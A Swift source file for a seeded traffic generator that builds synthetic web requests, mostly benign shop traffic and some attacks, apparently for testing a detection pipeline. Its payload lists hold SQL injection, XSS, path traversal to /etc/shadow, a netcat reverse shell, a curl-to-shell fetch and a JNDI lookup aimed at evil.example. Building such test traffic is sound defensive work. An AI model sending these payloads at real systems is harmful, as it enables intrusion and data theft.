/// Builds realistic web requests in the input contract's JSON (docs/CONTRACT.md), with a share of
/// attacks (SQL injection, XSS, path traversal, command injection, scanners) and a small share of
/// malformed values that must end up as dead letters.
///
/// Deterministic for a seed, so a demo or benchmark run can be repeated request for request.
public struct TrafficGenerator: Sendable {
    public enum Kind: Sendable, Hashable {
        case benign
        case attack
        case malformed
    }

    public var attackShare: Double
    public var malformedShare: Double
    private var state: UInt64

    public init(seed: UInt64 = 0x5EED, attackShare: Double = 0.1, malformedShare: Double = 0.005) {
        self.state = seed | 1
        self.attackShare = attackShare
        self.malformedShare = malformedShare
    }

    /// The next request's value bytes and what kind it is, identified by `id`.
    public mutating func next(id: String, timestampMilliseconds: Int64) -> (value: [UInt8], kind: Kind) {
        let roll = unit()
        if roll < malformedShare {
            return (Array(pick(Self.malformed).utf8), .malformed)
        }
        let isAttack = roll < malformedShare + attackShare
        let user = pick(Self.userAgents)
        let (method, path, query, body): (String, String, String, String)
        if isAttack {
            (method, path, query, body) = attack()
        } else {
            (method, path, query, body) = benign()
        }
        let agent = isAttack && unit() < 0.3 ? pick(Self.scannerAgents) : user
        let address = "198.51.100.\(Int(next() % 250) + 1)"
        if unit() < 0.15 && body.isEmpty {
            // Some traffic arrives as access-log lines rather than JSON.
            let target = query.isEmpty ? path : "\(path)?\(query)"
            // As nginx writes it: a payload's quote inside the request line would end the field.
            let line =
                "\(address) - - [25/Nov/2026:12:00:00 +0000] \"\(Self.logEscaped("\(method) \(target) HTTP/1.1"))\" 200 \(Int(next() % 9_000) + 200) \"https://shop.example/\" \"\(Self.logEscaped(agent))\""
            return (Array(line.utf8), isAttack ? .attack : .benign)
        }
        var json = "{\"id\":\"\(id)\",\"ts\":\(timestampMilliseconds),\"method\":\"\(method)\",\"path\":"
        json += Self.quoted(path)
        json += ",\"query\":" + Self.quoted(query) + ",\"protocol\":\"HTTP/1.1\",\"headers\":{\"User-Agent\":"
        json += Self.quoted(agent) + ",\"Referer\":\"https://shop.example/\"},\"body\":" + Self.quoted(body)
        json += ",\"remote_addr\":\"\(address)\"}"
        return (Array(json.utf8), isAttack ? .attack : .benign)
    }

    private mutating func benign() -> (String, String, String, String) {
        switch next() % 8 {
        case 0: return ("GET", "/", "", "")
        case 1: return ("GET", "/products/\(next() % 5_000)", "", "")
        case 2: return ("GET", "/search", "q=\(pick(Self.words))+\(pick(Self.words))&page=\(next() % 5 + 1)", "")
        case 3:
            return (
                "GET", "/static/\(pick(["css/site.css", "js/app.js", "img/logo.png", "fonts/inter.woff2"]))", "", ""
            )
        case 4:
            return ("POST", "/login", "", "username=\(pick(Self.names))&password=\(pick(Self.words))\(next() % 100)")
        case 5: return ("GET", "/api/v1/users/\(next() % 90_000)/orders", "limit=20&offset=\(next() % 10 * 20)", "")
        case 6: return ("POST", "/cart/add", "", "product_id=\(next() % 5_000)&quantity=\(next() % 3 + 1)")
        default: return ("GET", "/category/\(pick(Self.words))", "sort=price&order=asc", "")
        }
    }

    private mutating func attack() -> (String, String, String, String) {
        let payload = pick(Self.payloads)
        switch next() % 5 {
        case 0: return ("GET", "/search", "q=" + payload, "")
        case 1: return ("GET", "/products/\(next() % 5_000)", "id=" + payload, "")
        case 2: return ("POST", "/login", "", "username=" + payload + "&password=x")
        case 3: return ("GET", pick(Self.probePaths), "", "")
        default: return ("GET", "/download", "file=" + pick(Self.traversals), "")
        }
    }

    /// xorshift64*: small, fast and good enough for traffic shapes.
    private mutating func next() -> UInt64 {
        state ^= state >> 12
        state ^= state << 25
        state ^= state >> 27
        return state &* 0x2545_F491_4F6C_DD1D
    }

    private mutating func unit() -> Double { Double(next() >> 11) / Double(1 << 53) }

    private mutating func pick(_ values: [String]) -> String { values[Int(next() % UInt64(values.count))] }

    /// `text` as a JSON string: quote, backslash and control characters escaped.
    static func quoted(_ text: String) -> String {
        var out = "\""
        for scalar in text.unicodeScalars {
            switch scalar {
            case "\"": out += "\\\""
            case "\\": out += "\\\\"
            case "\u{0}"..."\u{1f}": out += "\\u00" + hexByte(UInt8(scalar.value))
            default: out.unicodeScalars.append(scalar)
            }
        }
        return out + "\""
    }

    /// `text` as nginx writes a quoted access-log field (its default `escape=default`): `"`, `\`
    /// and every byte below 0x20 or above 0x7E as `\xHH`, so no value can end the field early.
    static func logEscaped(_ text: String) -> String {
        var out = ""
        for byte in text.utf8 {
            if byte == UInt8(ascii: "\"") || byte == UInt8(ascii: "\\") || byte < 0x20 || byte > 0x7E {
                out += "\\x" + hexByte(byte)
            } else {
                out.unicodeScalars.append(Unicode.Scalar(byte))
            }
        }
        return out
    }

    private static func hexByte(_ byte: UInt8) -> String {
        let digits = Array("0123456789ABCDEF".unicodeScalars)
        return String(digits[Int(byte >> 4)]) + String(digits[Int(byte & 0x0F)])
    }

    static let words = [
        "shoes", "jacket", "laptop", "coffee", "garden", "lamp", "desk", "phone", "camera", "book", "wine", "tea",
        "bicycle", "helmet", "watch", "bag", "sofa", "pillow",
    ]
    static let names = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"]
    static let userAgents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    ]
    static let scannerAgents = [
        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.0 zgrab/0.x", "masscan/1.3",
    ]
    static let payloads = [
        "' OR '1'='1' --", "1 UNION SELECT username,password FROM users--", "1; DROP TABLE orders--",
        "admin'--", "1' AND SLEEP(5)#", "<script>alert(document.cookie)</script>",
        "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444",
        "$(curl http://evil.example/x.sh|sh)", "{{7*7}}", "${jndi:ldap://evil.example/a}",
        "%27%20OR%201%3D1--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ]
    static let traversals = [
        "../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fshadow", "....//....//etc/hosts",
        "%252e%252e%252fwindows%252fwin.ini",
    ]
    static let probePaths = [
        "/wp-admin/install.php", "/.env", "/phpmyadmin/index.php", "/.git/config", "/cgi-bin/test-cgi",
        "/admin/config.php", "/server-status",
    ]
    static let malformed = [
        "", "{\"path\": ", "{\"id\": \"x\", \"path\": 42}", "[1,2,3]", "not a log line", "{\"query\":\"q=1\"}garbage",
    ]
}
